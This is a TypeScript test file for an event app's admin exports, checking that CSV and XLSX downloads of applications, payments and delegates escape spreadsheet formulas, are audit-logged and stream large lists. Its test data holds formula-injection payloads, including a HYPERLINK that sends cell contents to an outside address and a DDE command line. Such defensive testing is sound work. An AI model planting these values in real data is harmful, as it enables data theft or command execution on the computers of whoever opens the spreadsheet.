import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Test } from 'supertest';
import { waitForOutboxes } from '../testing/fixtures.js';
import { startTestApp, type TestApp } from '../testing/test-app.js';
import { loginAsAdmin, registerPaidDelegate, type AdminClient } from '../testing/admin-fixtures.js';

/** What a spreadsheet would run, or fetch from elsewhere, if it took it for a formula. */
const FORMULAS = [
  '=HYPERLINK("https://example.org/?"&A1,"Error")',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '＝1+1',
];
const PLAIN = 'A, "quoted"\nsecond line; नमस्ते 😀 <b>&amp;';

describe('lists that organisers take home', () => {
  let ground: TestApp;
  let office: AdminClient;
  beforeAll(async () => {
    ground = await startTestApp();
    ground.provider.control.configure({ webhooks: 'hold' });
    office = await loginAsAdmin(ground);
    for (const [at, text] of [...FORMULAS, PLAIN].entries())
      await ground
        .post('/ca', {
          fullName: text.replace('\n', ' '),
          email: `applicant-${at}@example.org`,
          phone: '0123456789',
          institution: 'Sample School',
          whyJoin: text,
          experience: 'None\u0007yet',
        })
        .expect(201);
  });
  afterAll(() => ground.stop());

  const download = (call: Test) =>
    call.buffer(true).parse((response, done) => {
      const pieces: Buffer[] = [];
      response.on('data', (piece: Buffer) => pieces.push(piece));
      response.on('end', () => done(null, Buffer.concat(pieces)));
    });

  it('show the applications, the newest first', async () => {
    const { body } = await office.get('/ca').expect(200);
    expect(body).toHaveLength(FORMULAS.length + 1);
    expect(body[0]).toEqual({
      _id: expect.stringMatching(/^[0-9a-f]{24}$/) as string,
      fullName: PLAIN.replace('\n', ' '),
      email: 'applicant-5@example.org',
      phone: '0123456789',
      institution: 'Sample School',
      whyJoin: PLAIN,
      experience: 'None\u0007yet',
      createdAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as string,
    });
  });

  it('as CSV open in Excel as they were typed, and no cell of them runs', async () => {
    const { body, headers } = await download(office.get('/ca/export?format=csv')).expect(200);
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="applications-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(headers['cache-control']).toBe('no-store');
    const text = (body as Buffer).toString('utf8');
    expect(text.startsWith('\uFEFFReceived (IST),Full name,Email,Phone,')).toBe(true);
    const cells = cellsOf(text);
    for (const formula of FORMULAS) expect(cells, formula).toContain(`'${formula}`);
    expect(cells).toContain(PLAIN);
    expect(cells.filter((cell) => /^[=+\-@\t\r＝]/.test(cell))).toEqual([]);
  });

  it('as XLSX hold texts and numbers, and no formula', async () => {
    const { body, headers } = await download(office.get('/ca/export?format=xlsx')).expect(200);
    expect(headers['content-type']).toContain('spreadsheetml.sheet');
    const parts = unzipSync(body as Buffer);
    expect(Object.keys(parts).toSorted()).toEqual(
      expect.arrayContaining(['[Content_Types].xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml']),
    );
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[ >/]/);
    const texts = [...sheet.matchAll(/t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t>/g)].map(
      ([, text]) => text!.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&'),
    );
    for (const formula of FORMULAS) expect(texts, formula).toContain(formula);
    expect(texts).toContain(PLAIN);
    expect(texts).toContain('Noneyet');
    expect(texts).toContain('0123456789');
  });

  it('tell of payments with their delegates, in rupees', async () => {
    const { paymentId } = await registerPaidDelegate(ground, {
      fullName: '=cmd',
      institution: '+Hill School',
    });
    await waitForOutboxes(ground);
    const { body } = await download(office.get('/payment/orders/export')).expect(200);
    const [head, row] = (body as Buffer).toString('utf8').trim().split('\r\n');
    expect(head).toContain('Registration ID,Full name,Email,Institution');
    expect(row).toMatch(
      /^[0-9A-Z]{5}-[0-9A-Z]{5},'=cmd,delegate-\w+@example\.org,'\+Hill School,confirmed,paid,1500,,1500,/,
    );
    expect(row).toContain(paymentId);
  });

  it('tell of delegates with their wishes', async () => {
    const { body } = await download(office.get('/registration/registrants/export')).expect(200);
    const [head, row] = (body as Buffer).toString('utf8').trim().split('\r\n');
    expect(head).toContain(
      'Registration ID,Full name,Email,Phone,Institution,MUNs,Allotted committee,Allotted portfolio,Mailed',
    );
    expect(row).toMatch(
      /^[0-9A-Z]{5}-[0-9A-Z]{5},'=cmd,delegate-\w+@example\.org,\d{10},'\+Hill School,2,,,no,Security Council,France,Kenya,World Health Organization,/,
    );
  });

  it('are noted in the list of activity, without what was in them', async () => {
    await waitForOutboxes(ground);
    const { body } = await office.get('/audit?kind=application').expect(200);
    expect(body.entries).toMatchObject([
      { action: 'exported', subject: 'applications', title: 'applications as XLSX' },
      { action: 'exported', subject: 'applications', title: 'applications as CSV' },
    ]);
    expect(JSON.stringify(body)).not.toContain('example.org');
  });

  it('are had in no other form', async () => {
    await office.get('/ca/export?format=pdf').expect(400);
  });

  it('of fifty thousand flow row by row and hold up nobody', { timeout: 300_000 }, async () => {
    const applications = ground.connection.collection('applications');
    const many = Array.from({ length: 50_000 }, (_, at) => ({
      fullName: `Applicant ${at}`,
      email: `many-${at}@example.org`,
      phone: '0123456789',
      institution: `School ${at % 400}`,
      whyJoin: 'To learn '.repeat(10),
      experience: 'Some',
      fingerprint: `many-${at}`,
      receivedAt: new Date(1_700_000_000_000 + at),
      outbox: [],
    }));
    for (let at = 0; at < many.length; at += 10_000)
      await applications.insertMany(many.slice(at, at + 10_000));
    const over = new AbortController();
    const exported = download(office.get('/ca/export?format=xlsx'))
      .expect(200)
      .then((answer) => {
        over.abort();
        return answer;
      });
    let others = 0;
    for (; !over.signal.aborted; others += 1) await ground.get('/health').expect(200);
    const { body } = await exported;
    const sheet = strFromU8(unzipSync(body as Buffer)['xl/worksheets/sheet1.xml']!);
    expect(sheet.match(/<row /g)).toHaveLength(50_000 + FORMULAS.length + 2);
    expect(others, 'others that were answered while it flowed').toBeGreaterThan(10);
  });
});

/** The cells of a CSV text, unquoted. */
function cellsOf(csv: string): string[] {
  return [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}
